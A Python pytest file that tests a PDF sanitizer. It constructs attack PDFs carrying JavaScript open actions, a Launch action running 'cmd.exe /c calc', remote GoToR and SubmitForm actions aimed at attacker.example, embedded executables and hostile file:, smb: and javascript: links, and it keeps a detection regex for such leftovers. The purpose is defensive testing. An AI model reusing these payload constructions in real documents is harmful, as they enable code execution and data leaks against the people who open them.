"""The PDF rebuild writes out an allowlist: attack documents made as an attacker would make them
come out with none of their active content, judged by an independent walk of every object of the
output (this file's own, with pikepdf) and by pypdfium2 reading it, and the findings name what
went. Benign extras go without a finding; attributes a page inherits from its page tree stay."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pypdfium2 as pdfium
import pytest
from pikepdf import Array, Dictionary, Name, String

from converters.inspect.outputs import inspect_file
from tests.conftest import run_engine

SCRIPT = "app.alert('attack');"
# what no output may hold anywhere: script, launch, file and remote names and the attack's own words
ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/AF", "/XFA", "/RichMedia",
               "/Launch", "/Win", "/XYZAction", "/AcroForm", "/PieceInfo", "/Metadata"}
ALLOWED_ACTIONS = {"/GoTo", "/Named", "/URI"}
LEFTOVERS = re.compile(rb"app\.alert|cmd\.exe|attacker|file:|\\\\\\\\|evil")


def leftovers(path: Path) -> list[str]:
    """Everything active found by walking every object of the file (each indirect object, the
    trailer and every direct container inside), every string and every stream's data."""
    found: list[str] = []
    with pikepdf.open(path) as pdf:
        stack: list[object] = [*pdf.objects, pdf.trailer]
        while stack:
            obj = stack.pop()
            if isinstance(obj, Dictionary | pikepdf.Stream):
                found += [f"key {key}" for key in obj.keys() if key in ACTIVE_KEYS]
                kind = obj.get("/S")
                if isinstance(kind, Name) and (obj.get("/Type") == Name.Action or "/D" in obj or "/N" in obj
                                               or "/URI" in obj or str(kind) in ("/JavaScript", "/Launch")):
                    if str(kind) not in ALLOWED_ACTIONS:
                        found.append(f"action {kind}")
                if isinstance(obj, pikepdf.Stream) and LEFTOVERS.search(obj.read_bytes()):
                    found.append("stream data")
                children = list(obj.values())
            elif isinstance(obj, Array):
                children = list(obj)
            else:
                continue
            for child in children:
                if isinstance(child, String) and LEFTOVERS.search(bytes(child)):
                    found.append(f"string {bytes(child)[:40]!r}")
                elif isinstance(child, Dictionary | pikepdf.Stream | Array) and not child.is_indirect:
                    stack.append(child)
    return found


def page_texts(path: Path) -> list[str]:
    document = pdfium.PdfDocument(str(path))
    try:
        return [document[index].get_textpage().get_text_range() for index in range(len(document))]
    finally:
        document.close()


def js(code: str = SCRIPT) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))  # no /Type /Action: only /S says what it is


def link(pdf: pikepdf.Pdf, action: Dictionary) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[50, 50, 200, 80], A=action))


def add_annots(pdf: pikepdf.Pdf, *annots: pikepdf.Object) -> None:
    pdf.pages[0].obj.Annots = Array(annots)


def embedded(pdf: pikepdf.Pdf) -> pikepdf.Object:
    data = pdf.make_stream(b"evil payload")
    data.Type = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=data)))


def open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(js())


def page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=js(), C=js())


def annotation_aa(pdf: pikepdf.Pdf) -> None:
    add_annots(pdf, pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[0, 0, 20, 20],
                                                 Contents=String("メモ"), AA=Dictionary(E=js()))))


def names_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(js())])))


def outline_action(pdf: pikepdf.Pdf) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("目次"), Parent=outlines, A=js()))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines


def launch(pdf: pikepdf.Pdf) -> None:
    add_annots(pdf, link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"),
                                         Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))))


def remote_goto(pdf: pikepdf.Pdf) -> None:
    add_annots(pdf, link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\s\\x.pdf"),
                                         D=Array([0, Name.Fit]))),
               link(pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("evil")))))


def submit_import(pdf: pikepdf.Pdf) -> None:
    add_annots(pdf, link(pdf, Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/c"))),
               link(pdf, Dictionary(S=Name.ImportData, F=String("evil.fdf"))))


def media(pdf: pikepdf.Pdf) -> None:
    rendition = Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, N=String("evil")))
    add_annots(pdf, *[pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(kind), Rect=[0, 0, 9, 9], **extra))
                      for kind, extra in (("/RichMedia", {"RichMediaContent": Dictionary()}),
                                          ("/3D", {"3DD": pdf.make_stream(b"U3D evil")}),
                                          ("/Screen", {"A": rendition}))])


def files(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), embedded(pdf)])))
    add_annots(pdf, pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9],
                                                 FS=embedded(pdf))))
    pdf.pages[0].obj.AF = Array([embedded(pdf)])


def xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp><script>app.alert(1)</script></xdp>"))


def in_resources(pdf: pikepdf.Pdf) -> None:
    """JavaScript hidden in a form XObject's resources, a font's dictionary, an ExtGState and a
    pattern - places the drawing code never looks for an action."""
    resources = pdf.pages[0].obj.Resources
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1],
                           Resources=Dictionary(JavaScript=pdf.make_indirect(js()), XYZAction=js()))
    resources.XObject = Dictionary(Fx0=form)
    for font in resources.Font.values():
        font.Type = Name.AA  # found by fuzzing: a /Type read as data came out as written
        font.AA = Dictionary(O=js())
        font.XYZAction = js()
    resources.ExtGState = Dictionary(GS0=Dictionary(Type=Name.ExtGState, CA=1, JS=String(SCRIPT), AA=js()))
    resources.Pattern = Dictionary(P0=Dictionary(Type=Name.Action, PatternType=2, Shading=Dictionary(
        ShadingType=2, ColorSpace=Name.DeviceRGB, Coords=[0, 0, 1, 1], Function=Dictionary(
            FunctionType=2, Domain=[0, 1], C0=[0, 0, 0], C1=[1, 1, 1], N=1)), XYZAction=js()))
    resources.Stray = pdf.make_indirect(js())
    resources.XObject.PS0 = pdf.make_stream(b"evil postscript", Type=Name.XObject, Subtype=Name.PS)


def future_keys(pdf: pikepdf.Pdf) -> None:
    pdf.Root.XYZAction = js()
    pdf.pages[0].obj.XYZAction = Dictionary(Type=Name.Action, S=Name.Launch, F=String("cmd.exe"))


def bad_links(pdf: pikepdf.Pdf) -> None:
    add_annots(pdf, *[link(pdf, Dictionary(S=Name.URI, URI=String(uri))) for uri in (
        "file:///C:/Windows/System32/cmd.exe", "\\\\attacker.example\\share\\x.lnk", "javascript:app.alert(1)",
        "https:////attacker.example/x", "smb://attacker.example/share")])


@pytest.mark.parametrize(("attack", "expected"), [
    (open_action, {("pdf_open_action_removed", "OpenAction"), ("pdf_action_removed", "JavaScript")}),
    (page_aa, {("pdf_additional_actions_removed", "AA"), ("pdf_javascript_removed", "JS")}),
    (annotation_aa, {("pdf_additional_actions_removed", "AA")}),
    (names_javascript, {("pdf_javascript_removed", "JavaScript"), ("pdf_action_removed", "JavaScript")}),
    (outline_action, {("pdf_action_removed", "JavaScript")}),
    (launch, {("pdf_action_removed", "Launch")}),
    (remote_goto, {("pdf_action_removed", "GoToR"), ("pdf_action_removed", "GoToE")}),
    (submit_import, {("pdf_action_removed", "SubmitForm"), ("pdf_action_removed", "ImportData")}),
    (media, {("pdf_annotation_removed", "RichMedia"), ("pdf_annotation_removed", "3D"),
             ("pdf_annotation_removed", "Screen"), ("pdf_action_removed", "Rendition")}),
    (files, {("pdf_embedded_file_removed", "EmbeddedFiles"), ("pdf_embedded_file_removed", "stream"),
             ("pdf_annotation_removed", "FileAttachment"), ("pdf_embedded_file_removed", "AF")}),
    (xfa, {("pdf_xfa_removed", "XFA")}),
    (in_resources, {("pdf_javascript_removed", "JavaScript"), ("pdf_action_removed", "JavaScript"),
                    ("pdf_additional_actions_removed", "AA"), ("pdf_javascript_removed", "JS"),
                    ("pdf_unknown_structure_removed", "XObject /PS")}),
    (future_keys, {("pdf_action_removed", "JavaScript"), ("pdf_action_removed", "Launch")}),
    (bad_links, {("pdf_external_link_removed", "URI")}),
])
def test_attack_comes_out_without_it(samples: Path, tmp_path: Path, attack: Callable[[pikepdf.Pdf], None],
                                     expected: set[tuple[str, str]]) -> None:
    source = tmp_path / "attack.pdf"
    with pikepdf.open(samples / "pdf-clean.pdf") as pdf:
        attack(pdf)
        pdf.save(source, object_stream_mode=pikepdf.ObjectStreamMode.generate)  # inside object streams
    assert leftovers(source)  # the attack is really there
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "sanitized", report.reason
    assert expected <= {(f.code, f.detail) for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    assert leftovers(output) == []
    assert inspect_file(output, tmp_path).problems == []
    assert page_texts(output) == page_texts(samples / "pdf-clean.pdf")


def test_an_incremental_update_that_redefines_the_catalog(samples: Path, tmp_path: Path) -> None:
    """The catalog the reader uses is the last one written: the rebuild reads the same one."""
    source = tmp_path / "updated.pdf"
    with pikepdf.open(samples / "pdf-clean.pdf") as pdf:
        pdf.save(source, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = source.read_bytes()
    with pikepdf.open(source) as pdf:
        root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    previous = int(data.rsplit(b"startxref", 1)[1].split()[0])
    body = (f"{root} 0 obj\n<< /Type /Catalog /Pages {pages} 0 R /OpenAction {size} 0 R >>\nendobj\n"
            f"{size} 0 obj\n<< /S /Java#53cript /J#53 (app.alert\\('update'\\)) >>\nendobj\n").encode()
    offsets = [len(data), len(data) + body.index(f"{size} 0 obj".encode())]
    xref = len(data) + len(body)
    tail = (f"xref\n{root} 1\n{offsets[0]:010d} 00000 n \n{size} 1\n{offsets[1]:010d} 00000 n \ntrailer\n"
            f"<< /Size {size + 1} /Root {root} 0 R /Prev {previous} >>\nstartxref\n{xref}\n%%EOF\n").encode()
    source.write_bytes(data + body + tail)
    with pikepdf.open(source) as pdf:
        assert str(pdf.Root.OpenAction.S) == "/JavaScript"  # the #-escapes read as the names they spell
    report = run_engine(source, tmp_path / "out")
    assert {("pdf_open_action_removed", "OpenAction"), ("pdf_javascript_removed", "JS")} <= {
        (f.code, f.detail) for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    assert leftovers(output) == [] and inspect_file(output, tmp_path).problems == []


def test_benign_extras_go_without_alarming_anyone(samples: Path, tmp_path: Path) -> None:
    """Private application data, metadata, page thumbnails and transitions, unknown keys holding
    nothing active: not written, and no finding - the document simply passes."""
    source = tmp_path / "extras.pdf"
    with pikepdf.open(samples / "pdf-clean.pdf") as pdf:
        page = pdf.pages[0].obj
        pdf.Root.PieceInfo = Dictionary(Illustrator=Dictionary(Private=String("x" * 50)))
        pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>", Type=Name.Metadata,
                                            Subtype=Name.XML)
        pdf.Root.MarkInfo = Dictionary(Marked=True)
        pdf.Root.FutureThing = Dictionary(Level=3)
        page.PieceInfo = Dictionary(App=Dictionary(Data=String("private")))
        page.Trans = Dictionary(S=Name.Dissolve)
        page.Thumb = pdf.make_stream(b"\x00" * 12, Width=2, Height=2, ColorSpace=Name.DeviceRGB, BitsPerComponent=8)
        with pdf.open_metadata() as meta:
            meta["dc:title"] = "秘密の題名"
        pdf.docinfo["/Author"] = "作成者"
        pdf.save(source)
    report = run_engine(source, tmp_path / "out")
    assert (report.outcome, report.findings) == ("passed", [])
    output = tmp_path / "out" / report.outputs[0].path
    with pikepdf.open(output) as pdf:
        assert set(pdf.Root.keys()) <= {"/Type", "/Pages", "/PageMode"}
        assert set(pdf.pages[0].obj.keys()) <= {"/Type", "/Parent", "/Resources", "/Contents", "/MediaBox", "/Rotate"}
        assert "/Info" not in pdf.trailer
    assert b"\xe7\xa7\x98\xe5\xaf\x86" not in output.read_bytes()  # 秘密, in no stream or string
    assert page_texts(output) == page_texts(source)


def test_attributes_inherited_from_the_page_tree_stay(samples: Path, tmp_path: Path) -> None:
    source = tmp_path / "inherited.pdf"
    with pikepdf.open(samples / "pdf-clean.pdf") as pdf:
        page, pages = pdf.pages[0].obj, pdf.Root.Pages
        pages.Resources, pages.MediaBox, pages.Rotate = page.Resources, page.MediaBox, 90
        pages.CropBox = Array([0, 0, 400, 500])
        for key in ("/Resources", "/MediaBox", "/Rotate"):
            if key in page:
                del page[key]
        pdf.save(source)
    report = run_engine(source, tmp_path / "out")
    assert report.outcome == "passed", report.findings
    with pikepdf.open(tmp_path / "out" / report.outputs[0].path) as pdf, pikepdf.open(samples / "pdf-clean.pdf") as o:
        page = pdf.pages[0].obj
        assert [float(v) for v in page.MediaBox] == [float(v) for v in o.pages[0].obj.MediaBox]
        assert [float(v) for v in page.CropBox] == [0, 0, 400, 500] and page.Rotate == 90
        assert set(page.Resources.Font.keys()) == set(o.pages[0].obj.Resources.Font.keys())
    assert page_texts(tmp_path / "out" / report.outputs[0].path) == page_texts(source)


def test_in_document_navigation_and_web_links_stay(samples: Path, tmp_path: Path) -> None:
    source = tmp_path / "links.pdf"
    with pikepdf.open(samples / "pdf-multipage-text.pdf") as pdf:
        target = pdf.pages[3].obj
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("第4頁"), Array([target, Name.Fit])])))
        add_annots(pdf, link(pdf, Dictionary(S=Name.GoTo, D=String("第4頁"))),
                   link(pdf, Dictionary(S=Name.GoTo, D=Array([target, Name.XYZ, 0, 800, None]))),
                   link(pdf, Dictionary(S=Name.URI, URI=String("mailto:info@example.lg.jp"))))
        pdf.save(source)
    report = run_engine(source, tmp_path / "out")
    assert (report.outcome, report.findings) == ("passed", [])
    with pikepdf.open(tmp_path / "out" / report.outputs[0].path) as pdf:
        annots = pdf.pages[0].obj.Annots
        assert [str(a.A.S) for a in annots] == ["/GoTo", "/GoTo", "/URI"]
        assert annots[1].A.D[0].objgen == pdf.pages[3].obj.objgen  # points at the new document's page
        assert bytes(pdf.Root.Names.Dests.Names[0]) == "第4頁".encode("utf-16-be") or \
            str(pdf.Root.Names.Dests.Names[0]) == "第4頁"
